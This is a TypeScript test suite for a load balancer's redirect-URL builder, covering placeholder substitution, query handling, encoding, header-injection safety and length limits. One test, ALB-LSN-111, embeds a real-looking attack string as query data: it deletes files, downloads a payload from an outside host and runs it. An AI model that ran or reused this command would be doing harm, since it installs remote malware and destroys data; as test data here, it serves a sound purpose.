import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import type { RedirectUnit } from '../snapshot/application-units.ts'
import { redirectLocation, type RedirectedRequest } from './redirect.ts'

const SAME: RedirectUnit = {
  type: 'redirect',
  statusCode: 301,
  protocol: '#{protocol}',
  host: '#{host}',
  port: '#{port}',
  path: '/#{path}',
  query: '#{query}',
}

const REQUEST: RedirectedRequest = { protocol: 'http', port: 80, host: 'h', path: '/p', query: 'q=1' }

function location(action: Partial<RedirectUnit>, request: Partial<RedirectedRequest> = {}): string {
  return redirectLocation({ ...SAME, ...action }, { ...REQUEST, ...request }) ?? 'too long'
}

test('ALB-LSN-091 components that are not set keep the values of the request', () => {
  assert.equal(location({ port: '8443' }), 'http://h:8443/p?q=1')
  assert.equal(location({ host: 'example.com' }, { port: 8080 }), 'http://example.com:8080/p?q=1')
})

test('ALB-LSN-112 ALB-LSN-113 the examples of the guide', () => {
  assert.equal(location({ protocol: 'HTTPS', port: '40443' }), 'https://h:40443/p?q=1')
  assert.equal(location({ path: '/new/#{path}' }, { path: '/a', query: 'x=1' }), 'http://h:80/new/a?x=1')
  assert.equal(
    location({ protocol: 'HTTPS', port: '443' }, { host: 'example.com', path: '/a/b', query: 'c=d' }),
    'https://example.com:443/a/b?c=d',
  )
})

test('ALB-LSN-101 ALB-LSN-102 the ? stands only before a query that is not empty', () => {
  assert.equal(location({ query: '' }), 'http://h:80/p')
  assert.equal(location({}, { query: null }), 'http://h:80/p')
  assert.equal(location({}, { query: '' }), 'http://h:80/p')
  assert.equal(location({ query: 'A=B' }), 'http://h:80/p?A=B')
})

test('ALB-LSN-103 … 107 placeholders work in every component that may hold them', () => {
  assert.equal(location({ query: 'p=#{protocol}&h=#{host}&o=#{port}' }), 'http://h:80/p?p=http&h=h&o=80')
  assert.equal(location({ host: 'new.#{host}', path: '/#{host}/#{port}/x' }), 'http://new.h:80/h/80/x?q=1')
  assert.equal(location({ path: '/x/#{path}', query: '#{path}' }, { path: '/a/b' }), 'http://h:80/x/a/b?a/b')
  assert.equal(location({ query: '#{query}&v=1' }, { query: 'a=b' }), 'http://h:80/p?a=b&v=1')
})

test('ALB-LSN-108 only #{…} is a keyword, and text of the request never becomes one', () => {
  assert.equal(location({ path: '/{host}' }), 'http://h:80/{host}?q=1')
  assert.equal(location({}, { path: '/#{host}', query: '#{port}$&' }), 'http://h:80/#{host}?#{port}$&')
})

test('ALB-LSN-111 values of the request stay as they were encoded, and blanks as they were not', () => {
  assert.equal(location({}, { path: '/a%20b%2f' }), 'http://h:80/a%20b%2f?q=1')
  // elastic/integrations#3491: the line has this URL, and 390 bytes.
  const query = 'cd+/tmp;rm+-rf+*;wget+ a.tigoinari.tk/jaws;sh+/tmp/jaws'
  const sent = location({ protocol: 'HTTPS', port: '443' }, { host: '127.0.0.1', path: '/shell', query })
  assert.equal(sent, `https://127.0.0.1:443/shell?${query}`)
})

test('no byte of a request can end the header field', () => {
  assert.equal(
    location({}, { path: '/a\r\nX: 1', host: 'h\0', query: '\t\u00e9\u007f' }),
    'http://h%00:80/a%0D%0AX: 1?%09%E9%7F',
  )
  const text = fc.string({ unit: fc.nat({ max: 255 }).map((code) => String.fromCharCode(code)) })
  fc.assert(
    fc.property(text, text, fc.option(text), (host, path, query) => {
      assert.match(location({}, { host, path, query }), /^[\x20-\x7e]+$/)
    }),
  )
})

test('ALB-OBS-517 a URL may have 8192 bytes and not one more', () => {
  const rest = 'http://h:80/?q=1'.length
  assert.equal(location({}, { path: `/${'a'.repeat(8192 - rest)}` }).length, 8192)
  assert.equal(location({}, { path: `/${'a'.repeat(8193 - rest)}` }), 'too long')
  assert.equal(location({}, { path: `/${'\u00e9'.repeat(2731)}` }), 'too long')
})
